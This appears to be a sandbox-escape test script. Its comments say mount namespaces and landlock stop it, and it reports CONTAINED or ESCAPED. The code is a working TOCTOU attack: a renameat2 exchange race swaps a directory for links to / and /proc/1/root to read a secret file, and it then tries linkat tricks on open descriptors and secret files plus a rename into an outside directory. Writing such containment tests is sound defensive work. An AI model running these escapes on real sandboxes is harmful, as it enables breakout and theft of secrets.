# attack: swaps directories for links while it opens through them, exchanges names and links open descriptors across the edge
# stopped-by: mount-ns landlock
# off: mount-ns landlock
import ctypes, json, os, shutil, sys, threading, time

F = json.loads(sys.argv[1]) if len(sys.argv) > 1 else {}


def contained(how):
    print("CONTAINED", how, flush=True)
    sys.exit(0)


def escaped(what):
    print("ESCAPED", what, flush=True)
    sys.exit(1)


libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE, EMPTY_PATH, FOLLOW, HERE = 2, 0x1000, 0x400, -100
base = f"/tmp/race-{F['run']}"
os.mkdir(base)
os.chdir(base)
os.mkdir("real")
os.makedirs("real/" + os.path.dirname(F["secret_tmp"]).lstrip("/"))
with open("real" + F["secret_tmp"], "w") as f:
    f.write("nothing\n")
os.symlink("/", "link")
os.symlink("/proc/1/root", "root")
got = []
over = threading.Event()


def swap():
    """What is a directory now is a link to the root in a moment, and back."""
    while not over.is_set():
        for other in (b"link", b"root"):
            libc.renameat2(HERE, b"real", HERE, other, EXCHANGE)
            libc.renameat2(HERE, b"real", HERE, other, EXCHANGE)


swapper = threading.Thread(target=swap)
swapper.start()
end = time.monotonic() + 1
while time.monotonic() < end and not got:
    for name in ("real", "link", "root"):
        try:
            with open(name + F["secret_tmp"]) as f:
                text = f.read(100)
            if text.startswith(F["secret_prefix"]):
                got.append("read through a link that was a directory: " + text)
        except OSError:
            pass
over.set()
swapper.join()

# A file of ours under a name outside, and one of theirs under a name of ours.
target = f"{F['drop_dir']}/raced-{F['run']}"
made = os.open(base, os.O_TMPFILE | os.O_RDWR, 0o666)
for fd in (0, 1, 2, made):
    for old, flags in ((b"", EMPTY_PATH), (b"/proc/self/fd/%d" % fd, FOLLOW)):
        for place in (target, "/proc/1/root" + target):
            if libc.linkat(fd if flags == EMPTY_PATH else HERE, old, HERE, place.encode(), flags) == 0:
                got.append(f"linked descriptor {fd} as {place}")
                os.unlink(place)
for theirs in (F["secret_tmp"], F["secret_shm"]):
    for way in (theirs, "/proc/1/root" + theirs):
        if libc.linkat(HERE, way.encode(), HERE, (base + "/stolen").encode(), FOLLOW) == 0:
            got.append(f"linked {way}")
            os.unlink(base + "/stolen")
with open("ours", "w") as f:
    f.write("x")
if libc.renameat2(HERE, b"ours", HERE, target.encode(), 0) == 0:
    got.append(f"moved a file to {target}")
    os.unlink(target)
os.chdir("/")
shutil.rmtree(base, ignore_errors=True)
if got:
    escaped("; ".join(got))
contained("no link and no race leads outside")
